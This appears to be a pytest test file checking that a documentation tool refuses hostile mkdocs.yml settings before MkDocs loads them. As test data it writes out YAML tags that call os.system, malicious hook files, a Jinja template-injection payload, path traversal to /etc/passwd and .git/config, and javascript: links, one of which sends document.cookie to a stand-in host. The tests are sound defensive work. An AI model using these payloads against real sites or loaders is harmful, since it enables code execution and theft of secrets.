"""Hostile mkdocs.yml: nothing in it runs code when ``program-portal check`` (the pre-commit hook) reads it.

Each attack writes a marker file if its code ran; the review (``program_portal.siteconfig``) must
refuse the file at the offending line before MkDocs' loader constructs a tag or imports a hook.
"""

from __future__ import annotations

import subprocess
from pathlib import Path

import pytest

from conftest import CLI, REPO, Project, cli, env, mkdocs_yml
from program_portal import siteconfig
from test_serve import Server, _free_port, _touch_later


def _marker_command(marker: Path) -> str:
    return f"touch {marker}"


ATTACKS = {
    "object/apply os.system": "site_description: !!python/object/apply:os.system ['{cmd}']\n",
    "object/new subprocess": "site_description: !!python/object/new:subprocess.check_output [['sh', '-c', '{cmd}']]\n",
    "name of a function": "extra:\n  x: !!python/name:os.system\n",
    "module": "extra:\n  x: !!python/module:os\n",
    "nested in a plugin option": "markdown_extensions:\n  - toc:\n      slugify: !!python/object/apply:os.system ['{cmd}']\n",
    "unknown application tag": "extra:\n  x: !include secrets.yml\n",
}


@pytest.mark.parametrize("name", list(ATTACKS))
def test_a_python_tag_is_refused_at_its_line_and_never_runs(project: Project, tmp_path: Path, name: str) -> None:
    marker = tmp_path / "ran"
    attack = ATTACKS[name].format(cmd=_marker_command(marker))
    project.write("mkdocs.yml", mkdocs_yml() + attack)
    result = project.check()
    assert result.returncode == 1, result
    assert "Traceback" not in result.output
    (line,) = result.diagnostics()
    assert line.startswith(f"{project.at('!', rel='mkdocs.yml')}: error PF029: "), line
    assert not marker.exists(), "the tag's code ran"


def test_hooks_are_refused_and_never_imported(project: Project, tmp_path: Path) -> None:
    marker = tmp_path / "ran"
    project.write("hooks/evil.py", f"import pathlib\npathlib.Path({str(marker)!r}).write_text('x')\n")
    project.write("mkdocs.yml", mkdocs_yml() + "hooks:\n  - hooks/evil.py\n")
    result = project.check()
    assert result.returncode == 1, result
    assert result.diagnostics() == [f"{project.at('hooks:', rel='mkdocs.yml')}: error PF030: 'hooks' run Python from the repository at build time; remove them (a maintainer can build with --trusted-config)"]
    assert not marker.exists(), "the hook was imported"
    exported = cli(project.root, "export", str(tmp_path / "out"))
    assert exported.returncode == 1 and not marker.exists(), exported


def test_trusted_config_lets_a_maintainer_use_hooks(project: Project, tmp_path: Path) -> None:
    marker = tmp_path / "ran"
    project.write("hooks/own.py", f"import pathlib\npathlib.Path({str(marker)!r}).write_text('x')\n")
    project.write("mkdocs.yml", mkdocs_yml() + "hooks:\n  - hooks/own.py\n")
    result = project.check("--trusted-config")
    assert result.ok, result
    assert marker.exists()


def test_a_tag_in_an_inherited_file_is_refused_there(project: Project, tmp_path: Path) -> None:
    marker = tmp_path / "ran"
    project.write("base.yml", f"site_description: !!python/object/apply:os.system ['{_marker_command(marker)}']\n")
    project.write("mkdocs.yml", "INHERIT: base.yml\n" + mkdocs_yml())
    result = project.check()
    assert result.returncode == 1, result
    assert result.diagnostics() == [f"{project.at('!!python', rel='base.yml')}: error PF029: the YAML tag '!!python/object/apply:os.system' could run code; only !ENV, !relative and the allowed !!python/name: values may be used"]
    assert not marker.exists()


@pytest.mark.parametrize("target", ["../outside.yml", ".git/config.yml"])
def test_inherit_outside_the_project_or_into_git_is_refused(project: Project, target: str) -> None:
    (project.root.parent / "outside.yml").write_text("site_name: elsewhere\n", encoding="utf-8")
    project.write(".git/config.yml", "site_name: git\n")
    project.write("mkdocs.yml", f"INHERIT: {target}\n" + mkdocs_yml())
    result = project.check()
    assert result.returncode == 1, result
    (line,) = result.diagnostics()
    assert line.startswith(f"{project.at(target, rel='mkdocs.yml')}: error PF030: INHERIT "), line


def test_allowed_tags_pass_the_review(project: Project) -> None:
    project.write(
        "mkdocs.yml",
        mkdocs_yml(site_name="!ENV [PORTAL_NAME, 'Fixture portal']")
        + "markdown_extensions:\n"
        "  - pymdownx.emoji:\n"
        "      emoji_index: !!python/name:material.extensions.emoji.twemoji\n"
        "      emoji_generator: !!python/name:material.extensions.emoji.to_svg\n"
        "  - pymdownx.superfences:\n"
        "      custom_fences:\n"
        "        - name: plain\n"
        "          class: plain\n"
        "          format: !!python/name:pymdownx.superfences.fence_code_format\n",
    )
    assert siteconfig.review(project.path("mkdocs.yml")) == []
    result = project.check("--strict")
    assert result.ok, result


def test_an_alias_bomb_is_reviewed_in_linear_time(tmp_path: Path) -> None:
    lines = ["extra:", "  a0: &a0 [x, x, x, x, x, x, x, x, x, x]"]
    lines += [f"  a{i}: &a{i} [*a{i - 1}, *a{i - 1}, *a{i - 1}, *a{i - 1}, *a{i - 1}, *a{i - 1}, *a{i - 1}, *a{i - 1}, *a{i - 1}, *a{i - 1}]" for i in range(1, 30)]
    lines.append("  evil: !!python/name:os.system")
    config = tmp_path / "mkdocs.yml"
    config.write_text("\n".join(lines) + "\n", encoding="utf-8")
    (problem,) = siteconfig.review(config)  # 10**30 paths, 300 nodes: walked once each (tags, links, !ENV)
    assert str(problem).startswith("mkdocs.yml:32:9: error PF029: ")


def test_the_shipped_configurations_pass_the_review() -> None:
    for name in ("mkdocs.yml", "mkdocs.offline.yml"):
        assert siteconfig.review(REPO / name) == [], name


def test_a_build_fails_on_what_the_review_refuses(project: Project) -> None:
    project.write("hooks/own.py", "pass\n")
    project.write("mkdocs.yml", mkdocs_yml() + "hooks:\n  - hooks/own.py\n")
    built = project.build()
    assert built.returncode == 1, built
    assert f"{project.at('hooks:', rel='mkdocs.yml')}: error PF030: " in built.output
    assert not project.path("site").exists()
    assert project.build(PROGRAM_PORTAL_TRUSTED_CONFIG="1", CI="").ok


# --- the allow-list (PF031) and the paths (PF032) ---------------------------------------------------

SECRET = "glpat-s3cr3t-token-4711"


def _config(*, theme: str = "", plugins: str = "", extensions: str = "", top: str = "") -> str:
    """A fixture mkdocs.yml with lines added to its theme, plugins, markdown_extensions and top level."""
    return (
        "site_name: Fixture portal\ndocs_dir: content\n"
        "theme:\n  name: material\n  font: false\n" + theme
        + "extra:\n  generator: false\n"
        + "plugins:\n  - search\n  - program-portal\n" + plugins
        + ("markdown_extensions:\n" + extensions if extensions else "")
        + top
    )


# name: (mkdocs.yml, the text the one message points at, its code and the start of its message)
REFUSED = {
    "material/privacy": (_config(plugins="  - material/privacy\n"), "material/privacy", "PF031", "the plugin 'material/privacy' is not on the portal's allow-list: it downloads"),
    "privacy": (_config(plugins="  - privacy:\n      enabled: true\n"), "privacy", "PF031", "the plugin 'privacy' is not on the portal's allow-list"),
    "social": (_config(plugins="  - social\n"), "social", "PF031", "the plugin 'social' "),
    "info": (_config(plugins="  - material/info\n"), "material/info", "PF031", "the plugin 'material/info' "),
    "projects": (_config(plugins="  - projects:\n      projects_dir: ../elsewhere\n"), "projects", "PF031", "the plugin 'projects' is not on the portal's allow-list: it builds nested projects"),
    "optimize": (_config(plugins="  - optimize\n"), "optimize", "PF031", "the plugin 'optimize' "),
    "group": (_config(plugins="  - group:\n      plugins: [social]\n"), "group", "PF031", "the plugin 'group' "),
    "blog": (_config(plugins="  - blog\n"), "blog", "PF031", "the plugin 'blog' "),
    "meta": (_config(plugins="  - meta\n"), "meta", "PF031", "the plugin 'meta' "),
    "a plugin of another package": (_config(plugins="  - macros\n"), "macros", "PF031", "the plugin 'macros' is not on the portal's allow-list: it is not one the portal has reviewed"),
    "plugins as a mapping": (_config().replace("plugins:\n  - search\n  - program-portal\n", "plugins:\n  search: {}\n  program-portal: {}\n  macros: {}\n"), "macros", "PF031", "the plugin 'macros' "),
    "search reads a dictionary file": (_config().replace("  - search\n", "  - search:\n      jieba_dict: ../../etc/passwd\n"), "jieba_dict", "PF031", "the option 'jieba_dict' of the plugin 'search' "),
    "tags writes outside the site": (_config(plugins="  - tags:\n      export_file: ../../tags.json\n"), "export_file", "PF031", "the option 'export_file' of the plugin 'tags' "),
    "an unknown portal option": (_config().replace("  - program-portal\n", "  - program-portal:\n      hooks: [x.py]\n"), "hooks", "PF031", "the option 'hooks' of the plugin 'program-portal' "),
    "pymdownx.b64": (_config(extensions="  - pymdownx.b64:\n      base_path: /\n"), "pymdownx.b64", "PF031", "the Markdown extension 'pymdownx.b64' is not on the portal's allow-list"),
    "a third-party extension": (_config(extensions="  - markdown_include.include\n"), "markdown_include", "PF031", "the Markdown extension 'markdown_include.include' "),
    "snippets, default options": (_config(extensions="  - pymdownx.snippets\n"), "pymdownx.snippets", "PF031", "pymdownx.snippets without base_path includes any file of the project (.git/config too); set base_path to a folder inside docs_dir, e.g. base_path: [content/snippets]"),
    "snippets, base_path the project": (_config(extensions="  - pymdownx.snippets:\n      base_path: ['.']\n"), "'.'", "PF032", "pymdownx.snippets base_path '.' is not inside docs_dir (content/)"),
    "snippets, base_path .git": (_config(extensions="  - pymdownx.snippets:\n      base_path: .git\n"), ".git", "PF032", "pymdownx.snippets base_path '.git' leads outside the project or into .git"),
    "snippets, unrestricted": (_config(extensions="  - pymdownx.snippets:\n      base_path: [content]\n      restrict_base_path: false\n"), ("false", 3), "PF031", "pymdownx.snippets restrict_base_path must stay true"),
    "snippets, downloads": (_config(extensions="  - pymdownx.snippets:\n      base_path: [content]\n      url_download: true\n"), "true", "PF031", "pymdownx.snippets url_download makes a request to another host"),
    "extra_templates": (_config(top="extra_templates: [evil.html]\n"), "extra_templates", "PF031", "'extra_templates' are rendered by MkDocs' unsandboxed Jinja"),
    "extra_javascript": (_config(top="extra_javascript: [evil.js]\n"), "extra_javascript", "PF031", "'extra_javascript' runs the repository's script on every page"),
    "an unknown setting": (_config(top="google_analytics: [UA-1, auto]\n"), "google_analytics", "PF031", "'google_analytics' is not a setting the portal allows in mkdocs.yml"),
    "theme.static_templates": (_config(theme="  static_templates: [evil.html]\n"), "static_templates", "PF031", "theme.static_templates are rendered by MkDocs' unsandboxed Jinja"),
    "javascript: in nav": (_config(top="nav:\n  - Home: index.md\n  - Evil: javascript:alert(document.domain)\n"), "javascript:", "PF031", "nav[1].Evil 'javascript:alert(document.domain)' is a link a browser would run"),
    "another theme": (_config().replace("  name: material\n", "  name: readthedocs\n"), "readthedocs", "PF031", "theme.name 'readthedocs': the portal is built on the Material theme"),
    "an unknown theme.language": (_config(theme="  language: klingon\n"), "klingon", "PF031", "theme.language 'klingon' is not a language the Material theme ships; "),
    "theme.language near one Material ships": (_config(theme="  language: pt_PT\n"), "pt_PT", "PF031", "theme.language 'pt_PT' is not a language the Material theme ships (did you mean pt or pt-BR?)"),
    "javascript: in extra.homepage": (_config().replace("  generator: false\n", "  generator: false\n  homepage: \" jAvAsCrIpT:fetch('//x/'+document.cookie)\"\n"), "\" jAvAsCrIpT", "PF031", "extra.homepage \" jAvAsCrIpT:fetch('//x/'+document.cookie)\" is a link a browser would run"),
    "data: in a social link": (_config().replace("  generator: false\n", "  generator: false\n  social:\n    - icon: x\n      link: data:text/html,<script>alert(1)</script>\n"), "data:", "PF031", "extra.social[0].link 'data:text/html,<script>alert(1)</script>' is a link a browser would run"),
    "javascript: in repo_url": (_config(top="repo_url: javascript:alert(1)\n"), "javascript:", "PF031", "repo_url 'javascript:alert(1)' "),
    "!ENV of a CI secret": (_config(top="site_url: !ENV CI_REPOSITORY_URL\n"), "!ENV CI_REPOSITORY_URL", "PF031", "!ENV may read only variables named PORTAL_* and not named like a secret"),
    "!ENV of a secret named for the portal": (_config(top="copyright: !ENV [PORTAL_DEPLOY_TOKEN, '(c)']\n"), "PORTAL_DEPLOY_TOKEN", "PF031", "!ENV may read only variables named PORTAL_* "),
    "docs_dir outside": (_config().replace("docs_dir: content", "docs_dir: ../elsewhere"), "../elsewhere", "PF032", "docs_dir '../elsewhere' leads outside the project or into .git"),
    "docs_dir in .git": (_config().replace("docs_dir: content", "docs_dir: .git"), ".git", "PF032", "docs_dir '.git' leads outside the project or into .git"),
    "site_dir outside": (_config(top="site_dir: /tmp\n"), "/tmp", "PF032", "site_dir '/tmp' leads outside the project"),
    "site_dir in .git": (_config(top="site_dir: .git/hooks\n"), ".git/hooks", "PF032", "site_dir '.git/hooks' leads outside the project or into .git"),
    "site_dir the project": (_config(top="site_dir: .\n"), ".\n", "PF032", "site_dir '.' would replace the project's own files"),
    "custom_dir outside": (_config(theme="  custom_dir: ../overrides\n"), "../overrides", "PF032", "theme.custom_dir '../overrides' leads outside the project"),
    "custom_dir in .git": (_config(theme="  custom_dir: .git\n"), ".git", "PF032", "theme.custom_dir '.git' "),
    "logo outside": (_config(theme="  logo: ../../../etc/hostname\n"), "../../../etc", "PF032", "theme.logo '../../../etc/hostname' leads outside the project"),
    "favicon javascript:": (_config(theme="  favicon: javascript:alert(1)\n"), "javascript:", "PF031", "theme.favicon 'javascript:alert(1)' is a link a browser would run"),
    "the portal's program outside": (_config().replace("  - program-portal\n", "  - program-portal:\n      program: ../other/program.yml\n"), "../other", "PF032", "program-portal option 'program' '../other/program.yml' leads outside the project"),
    "the portal's cache in .git": (_config().replace("  - program-portal\n", "  - program-portal:\n      cache_dir: .git/objects\n"), ".git/objects", "PF032", "program-portal option 'cache_dir' '.git/objects' leads outside the project or into .git"),
    "emoji icons from outside": (_config(extensions="  - pymdownx.emoji:\n      options:\n        custom_icons: [/usr/share/icons]\n"), "/usr/share", "PF032", "pymdownx.emoji custom_icons '/usr/share/icons' leads outside the project"),
    "watch outside": (_config(top="watch: [/etc]\n"), "/etc", "PF032", "watch '/etc' leads outside the project"),
    "a lone surrogate in site_url": (_config(top='site_url: "https://mentoring.intranet.example/\\ud800/"\n'), '"https', "PF031",
                                     "this value holds a lone surrogate"),
}


@pytest.mark.parametrize("name", list(REFUSED))
def test_what_the_allow_list_refuses_is_one_message_at_its_line(project: Project, name: str) -> None:
    config, needle, code, message = REFUSED[name]
    project.write("mkdocs.yml", config)
    result = project.check(CI_REPOSITORY_URL=f"https://gitlab-ci-token:{SECRET}@git.example/x.git", PORTAL_DEPLOY_TOKEN=SECRET)
    assert result.returncode == 1, result
    assert "Traceback" not in result.output
    (line,) = result.diagnostics()
    needle, occurrence = needle if isinstance(needle, tuple) else (needle, 1)
    assert line.startswith(f"{project.at(needle, occurrence, rel='mkdocs.yml')}: error {code}: {message}"), line
    assert SECRET not in result.output


def test_snippets_default_would_publish_git_config_and_is_refused_in_build_too(project: Project) -> None:
    """The attack: ``--8<-- ".git/config"`` with snippets' default base_path publishes the CI token."""
    project.write(".git/config", f'[remote "origin"]\n\turl = https://oauth2:{SECRET}@git.example/x.git\n')
    project.write("content/leak.md", '# Leak\n\n--8<-- ".git/config"\n')
    project.write("mkdocs.yml", _config(extensions="  - pymdownx.snippets\n"))
    where = f"{project.at('pymdownx.snippets', rel='mkdocs.yml')}: error PF031: "
    for result in (project.check(), cli(project.root, "build"), project.build()):
        assert result.returncode == 1, result
        assert any(line.startswith(where) for line in result.diagnostics()), result
    assert not project.path("site").exists()


def test_extra_templates_are_refused_before_jinja_renders_them(project: Project, tmp_path: Path) -> None:
    marker = tmp_path / "ran"
    project.write("content/evil.html", "{{ cycler.__init__.__globals__.os.system('touch " + str(marker) + "') }}\n")
    project.write("mkdocs.yml", _config(top="extra_templates: [evil.html]\n"))
    for result in (project.check(), cli(project.root, "build")):
        assert result.returncode == 1, result
        assert f"{project.at('extra_templates', rel='mkdocs.yml')}: error PF031: " in result.output
    assert not marker.exists(), "the template ran"
    assert not project.path("site").exists()


def test_an_unknown_theme_language_is_an_error_not_a_jinja_traceback(project: Project) -> None:
    project.write("mkdocs.yml", _config(theme="  language: xx\n"))
    for result in (project.check(), cli(project.root, "build"), project.build()):
        assert result.returncode == 1 and "Traceback" not in result.output, result
        assert f"{project.at('xx', rel='mkdocs.yml')}: error PF031: theme.language 'xx' " in result.output


def test_env_of_a_ci_secret_is_not_published(project: Project) -> None:
    project.write("mkdocs.yml", _config(top="site_url: !ENV [CI_REPOSITORY_URL, 'https://portal.example/']\n"))
    secret_env = {"CI_REPOSITORY_URL": f"https://gitlab-ci-token:{SECRET}@git.example/x.git"}
    built = cli(project.root, "build", **secret_env)
    assert built.returncode == 1, built
    assert f"{project.at('CI_REPOSITORY_URL', rel='mkdocs.yml')}: error PF031: !ENV " in built.output
    assert not project.path("site").exists() and SECRET not in built.output


def test_env_of_a_portal_variable_passes(project: Project) -> None:
    project.write("mkdocs.yml", _config(top="copyright: !ENV [PORTAL_COPYRIGHT, 'Fixture Org']\n"))
    assert siteconfig.review(project.path("mkdocs.yml")) == []


def test_snippets_confined_to_docs_dir_build(project: Project) -> None:
    project.write("content/snippets/note.md", "A note from the program office.\n")
    project.write("content/with-snippet.md", '# With a snippet\n\n--8<-- "note.md"\n')
    project.write("mkdocs.yml", _config(extensions="  - pymdownx.snippets:\n      base_path: [content/snippets]\n      check_paths: true\n",
                                        top="exclude_docs: snippets/\n"))
    assert siteconfig.review(project.path("mkdocs.yml")) == []
    built = cli(project.root, "build", "--strict")
    assert built.ok, built
    assert "A note from the program office." in project.site("with-snippet/index.html")


MATERIAL_DOCUMENTED = _config(
    plugins="  - tags\n  - offline:\n      enabled: false\n  - typeset\n",
    extensions=(
        "  - abbr\n  - admonition\n  - attr_list\n  - def_list\n  - footnotes\n  - md_in_html\n  - tables\n"
        "  - toc:\n      permalink: true\n"
        "  - pymdownx.details\n  - pymdownx.highlight:\n      anchor_linenums: true\n  - pymdownx.inlinehilite\n"
        "  - pymdownx.superfences:\n      custom_fences:\n        - name: mermaid\n          class: mermaid\n"
        "          format: !!python/name:pymdownx.superfences.fence_code_format\n"
        "  - pymdownx.tabbed:\n      alternate_style: true\n  - pymdownx.tasklist:\n      custom_checkbox: true\n"
        "  - pymdownx.emoji:\n      emoji_index: !!python/name:material.extensions.emoji.twemoji\n"
        "      emoji_generator: !!python/name:material.extensions.emoji.to_svg\n"
        "  - pymdownx.keys\n  - pymdownx.mark\n  - pymdownx.caret\n  - pymdownx.tilde\n  - pymdownx.critic\n"
    ),
    theme="  language: de\n  features: [content.tabs.link]\n",
    top="repo_url: https://git.intranet.example/mentoring/portal\nsite_url: https://mentoring.intranet.example/\n",
)


def test_materials_documented_configurations_pass_the_review_and_build(project: Project) -> None:
    project.write("mkdocs.yml", MATERIAL_DOCUMENTED)
    assert siteconfig.review(project.path("mkdocs.yml")) == []
    project.write("content/tabs.md", '# Tabs\n\n=== "One"\n\n    First.\n\n=== "Two"\n\n    Second.\n\n!!! note\n    A note.\n')
    built = cli(project.root, "build")
    assert built.ok, built
    assert "tabbed-set" in project.site("tabs/index.html")


def test_the_fixture_configurations_pass_the_review() -> None:
    for config in sorted((REPO / "tests" / "fixtures").glob("*/mkdocs.yml")):
        assert siteconfig.review(config) == [], config


# --- --trusted-config under CI ------------------------------------------------------------------

def test_trusted_rule() -> None:
    assert siteconfig.trusted(False, {}) is False
    assert siteconfig.trusted(False, {"PROGRAM_PORTAL_TRUSTED_CONFIG": "1"}) is True
    assert siteconfig.trusted(False, {"PROGRAM_PORTAL_TRUSTED_CONFIG": "1", "CI": "true"}) is False
    assert siteconfig.trusted(False, {"PROGRAM_PORTAL_TRUSTED_CONFIG": "1", "CI": "false"}) is True
    assert siteconfig.trusted(True, {"CI": "true"}) is True


def test_the_environment_variable_does_not_trust_under_ci(project: Project, tmp_path: Path) -> None:
    marker = tmp_path / "ran"
    project.write("hooks/own.py", f"import pathlib\npathlib.Path({str(marker)!r}).write_text('x')\n")
    project.write("mkdocs.yml", mkdocs_yml() + "hooks:\n  - hooks/own.py\n")
    for result in (project.check(PROGRAM_PORTAL_TRUSTED_CONFIG="1", CI="true"),
                   cli(project.root, "build", PROGRAM_PORTAL_TRUSTED_CONFIG="1", CI="true"),
                   project.build(PROGRAM_PORTAL_TRUSTED_CONFIG="1", CI="true")):
        assert result.returncode == 1, result
        assert f"{project.at('hooks:', rel='mkdocs.yml')}: error PF030: " in result.output
    assert "note: PROGRAM_PORTAL_TRUSTED_CONFIG=1 is ignored because CI is set" in cli(project.root, "build", PROGRAM_PORTAL_TRUSTED_CONFIG="1", CI="true").stderr
    assert not project.path("site").exists()
    # mkdocs build ran the hook while loading (the plugin's review comes after): program-portal build did not
    marker.unlink(missing_ok=True)
    assert cli(project.root, "build", PROGRAM_PORTAL_TRUSTED_CONFIG="1", CI="true").returncode == 1 and not marker.exists()
    built = cli(project.root, "build", "--trusted-config", CI="true")  # a maintainer's own command line
    assert built.ok, built
    assert marker.exists() and project.path("site/index.html").is_file()


# --- program-portal build and serve ----------------------------------------------------------------

def test_build_refuses_a_hook_before_mkdocs_imports_it(project: Project, tmp_path: Path) -> None:
    marker = tmp_path / "ran"
    first = cli(project.root, "build", "--strict")
    assert first.ok, first
    before = project.site("index.html")
    project.write("hooks/evil.py", f"import pathlib\npathlib.Path({str(marker)!r}).write_text('x')\n")
    project.write("mkdocs.yml", mkdocs_yml() + "hooks:\n  - hooks/evil.py\n")
    result = cli(project.root, "build", "--strict")
    assert result.returncode == 1, result
    assert result.diagnostics() == [f"{project.at('hooks:', rel='mkdocs.yml')}: error PF030: 'hooks' run Python from the repository at build time; remove them (a maintainer can build with --trusted-config)"]
    assert "nothing built: 1 error(s) in the site configuration" in result.stderr
    assert not marker.exists() and project.site("index.html") == before


def test_build_writes_the_site_where_asked(project: Project, tmp_path: Path) -> None:
    out = project.root / "public"
    result = cli(project.root, "build", "-d", str(out))
    assert result.ok, result
    assert (out / "index.html").is_file() and not project.path("site").exists()


class _PortalServer(Server):
    """``program-portal serve --port N`` (the Makefile's ``make serve PORT=N``) in the project."""

    def __init__(self, project: Project):
        self.project = project
        self.port = _free_port()
        self.log_path = project.root.parent / f"portal-serve-{self.port}.log"
        self.log = self.log_path.open("w", encoding="utf-8")
        self.proc = subprocess.Popen([CLI, "serve", "--port", str(self.port)], cwd=project.root,
                                     stdout=self.log, stderr=subprocess.STDOUT, env=env())


def test_serve_reviews_the_configuration_again_on_every_reload(make_project, tmp_path: Path) -> None:
    project = make_project("small")
    marker = tmp_path / "ran"
    server = _PortalServer(project)
    try:
        server.wait_for_page("/program/", "Small Programme", timeout=90)
        project.write("hooks/evil.py", f"import pathlib\npathlib.Path({str(marker)!r}).write_text('x')\n")
        project.write("mkdocs.yml", project.read("mkdocs.yml") + "hooks:\n  - hooks/evil.py\n")
        _touch_later(project.path("mkdocs.yml"))
        located = f"{project.at('hooks:', rel='mkdocs.yml')}: error PF030: 'hooks' run Python"
        server.wait_for(lambda: located in server.output(), "the refused reload in the log", timeout=60)
        assert "the configuration was refused: nothing was rebuilt" in server.output()
        assert "Traceback" not in server.output() and server.proc.poll() is None
        assert not marker.exists(), "the hook added during serve was imported"
        # MkDocs' server holds requests until a build succeeds: fixed, the preview comes back
        project.edit("mkdocs.yml", "hooks:\n  - hooks/evil.py\n", "")
        project.edit("program.yml", "title: Small Programme", "title: Fixed Programme")
        _touch_later(project.path("mkdocs.yml"))
        server.wait_for_page("/program/", "Fixed Programme", timeout=60)
        assert not marker.exists()
    finally:
        server.stop()


def test_serve_refuses_a_hostile_configuration_before_starting(project: Project, tmp_path: Path) -> None:
    marker = tmp_path / "ran"
    project.write("hooks/evil.py", f"import pathlib\npathlib.Path({str(marker)!r}).write_text('x')\n")
    project.write("mkdocs.yml", mkdocs_yml() + "hooks:\n  - hooks/evil.py\n")
    result = cli(project.root, "serve", "--port", str(_free_port()))
    assert result.returncode == 1, result
    assert result.diagnostics() == [f"{project.at('hooks:', rel='mkdocs.yml')}: error PF030: 'hooks' run Python from the repository at build time; remove them (a maintainer can build with --trusted-config)"]
    assert not marker.exists()


def test_a_path_from_env_is_reviewed_as_mkdocs_would_read_it(project: Project) -> None:
    project.write("mkdocs.yml", _config().replace("docs_dir: content", "docs_dir: !ENV [PORTAL_DOCS, content]"))
    result = project.check(PORTAL_DOCS="../../")
    assert result.returncode == 1, result
    assert result.diagnostics() == [f"{project.at('!ENV', rel='mkdocs.yml')}: error PF032: docs_dir '../../' leads outside the project or into .git; name a path inside the project"]
    assert project.check(PORTAL_DOCS="content").ok
